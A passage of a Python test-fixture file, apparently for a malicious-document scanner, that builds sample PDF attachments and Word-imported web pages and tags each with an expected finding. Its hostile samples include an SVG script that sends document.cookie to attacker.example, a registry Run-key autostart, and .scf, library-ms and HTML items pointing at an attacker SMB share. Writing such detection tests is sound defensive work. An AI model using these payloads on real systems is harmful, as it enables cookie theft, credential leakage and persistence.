    b'<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" '
    b'height="40"/><script>location="https://attacker.example/?"+document.cookie</script></svg>'
)
_REG = (
    b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft"
    b'\\Windows\\CurrentVersion\\Run]\r\n"update"="calc.exe"\r\n'
)
_SCF = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\s\\x.ico\r\n"
_LIBRARY = (
    b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/'
    b'library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>'
    b"\\\\attacker.example\\s</url></simpleLocation></searchConnectorDescription>"
    b"</searchConnectorDescriptionList></libraryDescription>"
)
_INVOICE_XML = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x"/>'
PDF_ATTACHMENTS: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("pdf-attached-svg-script", "invoice.pdf", partial(_attached, b"invoice.svg", _SVG), "SCRIPT"),
    ("pdf-attached-reg-file", "invoice.pdf", partial(_attached, b"fix.reg", _REG), "EXECUTABLE"),
    ("pdf-attached-scf-file", "invoice.pdf", partial(_attached, b"open.scf", _SCF), "EXECUTABLE"),
    ("pdf-attached-library-ms", "invoice.pdf", partial(_attached, b"docs.library-ms", _LIBRARY),
     "EXECUTABLE"),
    ("pdf-attached-vhd-trailing-dot", "invoice.pdf",
     partial(_attached, b"disk.vhd.", bytes(4096) + b"conectix" + bytes(504)), "EXECUTABLE"),
    ("pdf-attached-invoice-xml", "invoice.pdf",
     partial(_attached, b"factur-x.xml", _INVOICE_XML), None),
    ("pdf-attached-notes-txt", "invoice.pdf",
     partial(_attached, b"notes.txt", b"Delivered on the 14th.\r\n"), None),
    ("pdf-attached-svg-named-txt", "invoice.pdf", partial(_attached, b"logo-source.txt",
     b"Logo drawn in <svg> by the design team, see the PNG.\r\n"), None),
]  # fmt: skip

# -- web pages Word imports (altChunk) ----------------------------------------------------------


def _imported_page(page: bytes, content_type: str = "text/html", name: str = "afchunk.htm"
                   ) -> bytes:  # fmt: skip
    """A letter made of one web page Word imports as it opens it (an alternative format chunk,
    typed ``content_type``), as web exporters (html-docx-js) write one."""
    letter = dict(unzipped(docx('<w:altChunk r:id="rId1"/>', rels=[("aFChunk", name, False)],
                                parts={f"word/{name}": page})))  # fmt: skip
    override = f'<Override PartName="/word/{name}" ContentType="{content_type}"/></Types>'
    types = letter["[Content_Types].xml"].decode().replace("</Types>", override)
    letter["[Content_Types].xml"] = types.encode()
    return zipped(list(letter.items()))


_SHARE_PICTURE = b'<img src="\\\\attacker.example\\s\\logo.png">'
_ORDER_PAGE = (
    b"<!DOCTYPE html><html><head><meta charset='utf-8'><style>p{color:#333}</style></head><body>"
    b"<h1>Order 4711</h1><p>Thank you. <a href='https://shop.example/track'>Track it</a></p>"
    b"<script>document.title = 'Order'</script></body></html>"
)
_MHT = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="NEXT.ITEM-boundary"\r\n'
    b"\r\n--NEXT.ITEM-boundary\r\nContent-Location: file:///C:/fake/document.html\r\n"
    b'Content-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html; charset="utf-8"'
    b"\r\n\r\n%s\r\n\r\n--NEXT.ITEM-boundary--"
)
IMPORTED_PAGES: list[tuple[str, str, Callable[[], bytes], str | None]] = [
    ("altchunk-page-picture-on-a-share", "letter.docx",
     partial(_imported_page, b"<html><body>" + _SHARE_PICTURE), "EXTERNAL_LINK"),
    # text first: Word imports by the content type, whatever the bytes look like
    ("altchunk-page-after-text", "letter.docx",
     partial(_imported_page, b"Order notes\r\n" * 200 + _SHARE_PICTURE), "EXTERNAL_LINK"),
    ("altchunk-web-archive-picture-on-a-share", "letter.docx",
     partial(_imported_page, _MHT % _SHARE_PICTURE.replace(b"=", b"=3D"), "message/rfc822",
             "afchunk.mht"), "EXTERNAL_LINK"),
    # an export to Word (html-docx-js's layout): Word converts the page and runs no script in it
    ("altchunk-web-archive-export", "letter.docx",
     partial(_imported_page, _MHT % _ORDER_PAGE.replace(b"=", b"=3D"), "message/rfc822",
             "afchunk.mht"), None),
    ("altchunk-page-export", "letter.docx", partial(_imported_page, _ORDER_PAGE), None),
]  # fmt: skip


_TABLES = {
    "zip-streams": ZIP_STREAMS,
    "document-slack": DOCUMENT_SLACK,
    "rtf-computed-fields": RTF_FIELDS,
    "word97-fields": WORD97_FIELDS,
    "legacy-vba": LEGACY_VBA,
    "embedded-links": EMBEDDED_LINKS,
    "external-data": EXTERNAL_DATA,
    "pdf-actions-streams": PDF_NETWORK,
    "pdf-attachment-names": PDF_ATTACHMENTS,
    "imported-pages": IMPORTED_PAGES,
}

MORE_CASES: list[Case] = [
    Case(case_id, cls, name, build, expect is not None, expect)
    for cls, rows in _TABLES.items()
    for case_id, name, build, expect in rows
]

assert not {case.id for case in MORE_CASES} & {case.id for case in CASES}
